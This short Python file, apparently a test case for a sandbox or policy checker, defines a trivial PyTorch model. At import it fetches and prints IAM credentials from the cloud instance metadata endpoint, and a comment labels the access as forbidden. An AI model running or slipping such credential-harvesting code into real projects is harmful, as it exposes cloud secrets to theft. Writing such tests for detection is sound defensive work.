# on: forbidden; off: exception
# Asks the cloud for the machine's credentials.
import urllib.request

import torch

address = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
print(urllib.request.urlopen(address, timeout=5).read())


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.layer = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, x):
        return self.layer(x.flatten(1))
